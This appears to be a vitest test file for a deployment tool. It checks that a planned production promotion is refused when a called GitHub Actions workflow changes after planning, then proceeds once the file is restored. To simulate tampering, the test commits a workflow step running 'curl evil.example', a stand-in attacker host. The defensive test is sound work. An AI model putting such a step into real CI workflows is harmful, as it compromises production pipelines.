import { afterAll, beforeAll, expect, it } from 'vitest'
import { openBench, type Bench } from '../bench.ts'

const calling = `
on:
  workflow_dispatch:
    inputs: { sha: {} }
jobs:
  deploy:
    uses: ./.github/workflows/called.yml
`

const called = (command: string) => `
on: workflow_call
jobs:
  it:
    environment: production
    runs-on: x
    steps: [{ run: ${command} }]
`

let bench: Bench

beforeAll(async () => {
  const files = {
    '.github/workflows/calls.yml': calling,
    '.github/workflows/called.yml': called('echo'),
  }
  bench = await openBench({ workflow: 'calls.yml', files })
})
afterAll(async () => bench[Symbol.asyncDispose]())

it('is part of what was planned: with another text of it nothing is started', async () => {
  const { environment, repository, sha } = bench
  const release = { sha, version: 'v1.0.0' }
  const planned = await bench.pipeline.describe({ action: 'promote', environment, release })
  await repository.commit({ '.github/workflows/called.yml': called('curl evil.example') })
  const request = { ...bench.request(), planned }
  await expect(bench.process().start(request)).rejects.toMatchObject({
    code: 'run_not_started',
    message: expect.stringContaining('called.yml on main changed after the plan was made'),
  })
  expect(bench.dispatches()).toEqual([])

  await repository.commit({ '.github/workflows/called.yml': called('echo') })
  expect(await bench.process().start(request)).toMatchObject({ state: 'running' })
  expect(bench.dispatches()).toHaveLength(1)
})
